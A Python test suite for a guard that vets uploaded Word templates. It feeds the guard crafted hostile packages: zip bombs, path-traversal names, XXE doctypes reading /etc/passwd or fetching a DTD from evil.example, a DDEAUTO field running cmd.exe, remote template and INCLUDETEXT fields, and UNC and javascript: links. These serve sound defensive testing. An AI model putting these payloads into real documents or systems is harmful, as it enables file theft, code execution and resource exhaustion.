"""A template comes from anywhere: what is no plain Word document, or could do harm, is refused with its reason."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from importlib import import_module

import docx
import pytest

from huiyin.documents.official import Heading, Picture, Table, Title, write_document
from huiyin.documents.official.content import Column, OfficialDocument
from huiyin.documents.templates import TemplateRefused, guard
from huiyin.documents.templates import package as limits
from huiyin.documents.tests.wordfiles import (
    DOCUMENT_TYPE,
    PIXEL,
    RELATIONS,
    SPACES,
    para,
    read_part,
    run,
    with_body,
    with_parts,
    with_relation,
    with_type,
    word_of,
)

guarding = import_module("huiyin.documents.templates.guard")


def reasons(data: bytes) -> set[str]:
    with pytest.raises(TemplateRefused) as refused:
        guard(data)
    for problem in refused.value.problems:
        assert problem.severity == "error"
        assert problem.message and problem.remedy and problem.english_message and problem.english_remedy
    return {problem.code for problem in refused.value.problems}


def zipped(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in entries:
            package.writestr(name, content)
    return out.getvalue()


def test_what_word_and_our_writer_save_is_let_pass() -> None:
    guard(
        write_document(
            OfficialDocument(
                [Title("报告"), Heading(1, "一"), Table([Column("月")], [["1"]]), Picture(PIXEL, "图")], mark="草稿"
            )
        )
    )
    plain = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("python-docx 的默认模板带有缩略图、主题和样式。")
    document.sections[0].header.paragraphs[0].text = "页眉"
    document.save(plain)
    guard(plain.getvalue())


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "not_docx"),
        (b"%PDF-1.7", "not_docx"),
        ("来信 {{ 来信.件次 }}".encode(), "not_docx"),
        (b"PK\x03\x04" + b"\0" * 100, "not_docx"),
        (word_of("x")[:900], "not_docx"),
        (zipped(("a.txt", b"a")), "not_docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        (b"PK\x03\x04" + bytes(limits.PACKED_LIMIT), "too_big"),
        (zipped(*((f"word/media/{number}.png", b"") for number in range(2_001))), "too_many_parts"),
    ],
)
def test_what_is_no_word_document(data: bytes, code: str) -> None:
    assert reasons(data) == {code}


def test_a_sheet_is_no_word_document() -> None:
    sheet = word_of("x")
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = read_part(sheet, "[Content_Types].xml").replace(DOCUMENT_TYPE, kind)
    assert reasons(with_parts(sheet, {"[Content_Types].xml": types})) == {"not_docx"}


def deflated_zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros, packed: one packed megabyte written over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush(zlib.Z_FINISH)


def with_lying_part(name: str, packed: bytes, claimed: int) -> bytes:
    """A file with a packed part whose headers claim another size."""
    data = bytearray(zipped((name, packed)))
    for signature, method, size in ((b"PK\x03\x04", 8, 22), (b"PK\x01\x02", 10, 24)):
        at = data.rfind(signature) if signature == b"PK\x01\x02" else data.find(signature)
        struct.pack_into("<H", data, at + method, zipfile.ZIP_DEFLATED)
        struct.pack_into("<L", data, at + size, claimed)
    return bytes(data)


@pytest.mark.parametrize("claimed", [2 << 30, 1_000_000])
def test_two_gigabytes_are_refused_before_they_are_made(claimed: int) -> None:
    data = with_lying_part("word/document.xml", deflated_zeros(2_048), claimed)
    assert len(data) < 3 << 20
    tracemalloc.start()
    begun = time.perf_counter()
    assert reasons(data) <= {"bomb", "not_docx"}
    assert time.perf_counter() - begun < 5
    assert tracemalloc.get_traced_memory()[1] < 130 << 20
    tracemalloc.stop()


def test_a_bomb_that_tells_its_size_is_called_one() -> None:
    assert reasons(with_lying_part("word/document.xml", deflated_zeros(64), 64 << 20)) == {"bomb"}


def test_many_parts_that_share_one_stretch_are_counted_each() -> None:
    """Parts that each stay under the ratio still may not expand beyond the whole limit."""
    noise = bytes(range(256)) * 64
    data = with_parts(word_of("x"), {f"word/media/{n}.png": noise * 64 for n in range(110)})
    assert len(data) < limits.PACKED_LIMIT
    assert reasons(data) == {"bomb"}


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "/etc/passwd", "word/../../x.xml", "C:\\x.xml", "word\\x.xml", "word//x.xml", "word/\u202egnp.exe"],
)
def test_improper_names(name: str) -> None:
    assert "bad_name" in reasons(with_parts(word_of("x"), {name: "<a/>"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("second", ["word/document.xml", "word/Document.XML"])
def test_two_parts_of_one_name(second: str) -> None:
    out = io.BytesIO(word_of("x"))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(second, "<a/>")
    assert "duplicate_name" in reasons(out.getvalue())


def test_a_part_that_is_encrypted_or_packed_unusually() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as package:
        package.writestr("word/document.xml", "<a/>")
    assert reasons(out.getvalue()) == {"not_docx"}
    data = bytearray(word_of("x"))
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    assert reasons(bytes(data)) == {"encrypted"}


@pytest.mark.parametrize("where", ["word/document.xml", "word/styles.xml", "[Content_Types].xml", "docProps/core.xml"])
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x [<!ENTITY a "b">]>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
    ],
)
def test_entities(where: str, doctype: str) -> None:
    xml = read_part(word_of("x"), where)
    head, _, rest = xml.partition("?>")
    assert "entities" in reasons(with_parts(word_of("x"), {where: f"{head}?>{doctype}{rest}"}))


def test_entities_in_another_encoding() -> None:
    """UTF-16 is read as such; other encodings, in which parsers may disagree, are refused."""
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")
    assert "entities" in reasons(with_parts(word_of("x"), {"customXml/item1.xml": xml}))
    seven = b'<?xml version="1.0" encoding="UTF-7"?><x/>'
    assert "bad_xml" in reasons(with_parts(word_of("x"), {"customXml/item1.xml": seven}))


def test_broken_and_overgrown_xml(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "bad_xml" in reasons(with_parts(word_of("x"), {"word/styles.xml": "<w:styles>"}))
    assert "too_complex" in reasons(with_parts(word_of("x"), {"customXml/deep.xml": "<a>" * 300 + "</a>" * 300}))
    monkeypatch.setattr(guarding, "ELEMENT_LIMIT", 5_000)
    wide = "<x>" + "<a/>" * 5_000 + "</x>"
    assert "too_complex" in reasons(with_parts(word_of("x"), {"customXml/wide.xml": wide}))


@pytest.mark.parametrize(
    "make",
    [
        lambda data: with_parts(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        lambda data: with_type(data, "word/other.bin", "application/vnd.ms-office.vbaProject"),
        lambda data: with_relation(data, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "o.bin"),
        lambda data: with_parts(
            data,
            {
                "[Content_Types].xml": read_part(data, "[Content_Types].xml").replace(
                    DOCUMENT_TYPE, "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        lambda data: with_relation(
            data, "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/x.xml", of=""
        ),
        lambda data: with_parts(data, {"customUI/customUI14.xml": "<customUI/>"}),
    ],
)
def test_macros(make: Callable[[bytes], bytes]) -> None:
    assert "macros" in reasons(make(word_of("x")))


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda data: with_parts(data, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"),
        (lambda data: with_parts(data, {"word/media/image1.png": b"\xd0\xcf\x11\xe0"}), "embedded"),
        (lambda data: with_parts(data, {"word/media/image1.png": word_of("another")}), "embedded"),
        (lambda data: with_relation(data, "oleObject", "media/x.bin"), "embedded"),
        (lambda data: with_relation(data, "package", "x.xlsx"), "embedded"),
        (lambda data: with_relation(data, "control", "activeX/activeX1.xml"), "embedded"),
        (lambda _: with_body('<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'), "embedded"),
        (lambda _: with_body('<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>'), "embedded"),
        (lambda data: with_relation(data, "aFChunk", "chunk.html"), "foreign_part"),
        (lambda _: with_body('<w:altChunk r:id="rId9"/>'), "foreign_part"),
        (lambda data: with_type(data, "word/chunk.mht", "message/rfc822"), "foreign_part"),
        (lambda data: with_parts(data, {"word/run.exe": b"MZ"}), "foreign_part"),
        (lambda data: with_relation(data, "subDocument", "file:///C:/x.docx", external=True), "foreign_part"),
        (
            lambda data: with_relation(
                data, "attachedTemplate", "http://evil.example/x.dotm", external=True, of="settings"
            ),
            "attached_template",
        ),
        (lambda data: with_relation(data, "image", "http://evil.example/x.png", external=True), "external"),
        (lambda data: with_relation(data, "image", "\\\\evil\\share\\x.png", external=True), "external"),
        (lambda data: with_relation(data, "image", "http://evil.example/x.png"), "external"),
        (lambda data: with_relation(data, "hyperlink", "file:///etc/passwd", external=True), "external"),
        (lambda data: with_relation(data, "hyperlink", "javascript:alert(1)", external=True), "external"),
        (lambda data: with_relation(data, "hyperlink", "\\\\evil\\share", external=True), "external"),
        (lambda data: with_relation(data, "oleObject", "http://evil.example/x.html!", external=True), "external"),
        (
            lambda data: with_relation(data, "mailMergeSource", "file:///C:/x.mdb", external=True, of="settings"),
            "external",
        ),
        (lambda data: with_relation(data, "hyperlink", "x.png", external=True, of="header1"), "external"),
        (
            lambda _: with_body('<w:p><w:r><w:pict><v:imagedata src="http://evil.example/x"/></w:pict></w:r></w:p>'),
            "external",
        ),
        (lambda _: with_body('<w:p><w:r><w:pict><v:shape o:href="\\\\evil\\x"/></w:pict></w:r></w:p>'), "external"),
        (
            lambda data: with_parts(
                data,
                {
                    "word/media/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
                    '<image l:href="file:///etc/passwd"/></svg>'
                },
            ),
            "external",
        ),
        (
            lambda data: with_parts(
                data, {"word/settings.xml": f"<w:settings {SPACES}><w:mailMerge><w:query/></w:mailMerge></w:settings>"}
            ),
            "external",
        ),
        (
            lambda data: with_parts(
                data,
                {
                    "word/document.xml": read_part(data).replace(
                        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                        "http://purl.oclc.org/ooxml/wordprocessingml/main",
                    )
                },
            ),
            "strict",
        ),
    ],
)
def test_what_is_carried_along_or_fetched(make: Callable[[bytes], bytes], code: str) -> None:
    assert code in reasons(make(word_of("x")))


def test_links_to_pages_and_letters_are_let_pass() -> None:
    for target in ("https://www.example.gov.cn/a?b=1", "http://example.cn", "mailto:a@example.cn"):
        guard(with_relation(word_of("x"), "hyperlink", target, external=True))


def test_a_package_put_together_wrongly() -> None:
    data = with_relation(word_of("x"), f"{RELATIONS}/image", "media/nowhere.png")
    assert reasons(data) == {"not_docx"}
    assert reasons(with_relation(word_of("x"), "officeDocument", "word/other.xml", of="")) == {"not_docx"}


def field(*pieces: str, result: str = "结果") -> str:
    """A field whose code is cut over runs, as Word saves it."""
    codes = "".join(
        piece if piece.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return begin + codes + middle + result + end


@pytest.mark.parametrize(
    "code",
    [
        ['INCLUDETEXT "C:\\\\x.docx"'],
        ["INCLUDE", 'TEXT "http://evil.example/x"'],
        ["I", "N", "C", "LUDEPICT", "URE ", '"http://evil.example/x.png" \\d'],
        [" dde", "auto c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'],
        ["DDE excel x y"],
        ["LINK Excel.Sheet.8 x"],
        ["IMPORT x"],
        ["DATABASE \\c x"],
        ["MACROBUTTON Run x"],
        ["EMBED Package"],
        ["ADDIN x"],
        ["AUTOTEXT x"],
        ["FILLIN x"],
        ['HYPERLINK "file:///etc/passwd"'],
        ['HYPERLINK "\\\\\\\\evil\\\\share"'],
        ["HYPERLINK ", field("QUOTE 104 116 116 112")],
        [field("QUOTE 73 78 67 76 85 68 69"), "TEXT x"],
        ["IF 1=1 ", field("INCLUDETEXT x"), ' ""'],
        ["PAGE", field("DDEAUTO x")],
    ],
)
def test_fields_that_reach_outside(code: list[str]) -> None:
    assert reasons(with_body(para(run("前"), field(*code)))) == {"field_outside"}
    header = f"<w:hdr {SPACES}>{para(field(*code))}</w:hdr>"
    marked = word_of("x", mark="草稿")
    assert "field_outside" in reasons(with_parts(marked, {"word/header1.xml": header}))


@pytest.mark.parametrize("attribute", ["INCLUDETEXT x", ' DDEAUTO c "x"', "link Excel"])
def test_simple_fields_that_reach_outside(attribute: str) -> None:
    quoted = attribute.replace('"', "&quot;")
    assert reasons(with_body(f'<w:p><w:fldSimple w:instr="{quoted}"/></w:p>')) == {"field_outside"}


def test_fields_that_compute_are_let_pass() -> None:
    contents = field(' TOC \\o "1-3" \\h ', result=run("目录") + field("PAGEREF _Toc1 \\h", result=run("1")))
    pieces = ["PA", "GE", " \\* MERGEFORMAT"]
    link = ['HYPERLINK "https://example.cn/x"', ' \\o "说明"']
    for made in (
        contents,
        field(*pieces),
        field("=SUM(ABOVE)"),
        field("SEQ 表 \\* ARABIC"),
        field(*link),
        field("REF _a \\h"),
    ):
        guard(with_body(para(made)))
    guard(with_body(para(field('HYPERLINK \\l "_Toc1"')) + para(field("DATE \\@ &quot;yyyy年&quot;"))))


def test_every_reason_is_told_at_once() -> None:
    data = with_relation(word_of("x"), "image", "http://evil.example/x.png", external=True)
    data = with_parts(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert reasons(data) == {"external", "macros"}


@pytest.mark.parametrize(
    "xml",
    [
        f"<w:document {SPACES}/>",
        f"<w:document {SPACES}><w:p/></w:document>",
        f"<w:hdr {SPACES}><w:p/></w:hdr>",
        "<document><body><p/></body></document>",
    ],
)
def test_a_file_without_a_body_is_no_document(xml: str) -> None:
    assert reasons(with_parts(word_of("x"), {"word/document.xml": xml})) == {"not_docx"}


def test_what_is_broken_is_said_in_chinese() -> None:
    with pytest.raises(TemplateRefused) as refused:
        guard(with_parts(word_of("x"), {"word/styles.xml": "<styles>\n<"}))
    (problem,) = [one for one in refused.value.problems if one.code == "bad_xml"]
    assert "（第 2 行第 " in problem.message
    assert "token" in problem.english_message or "element" in problem.english_message
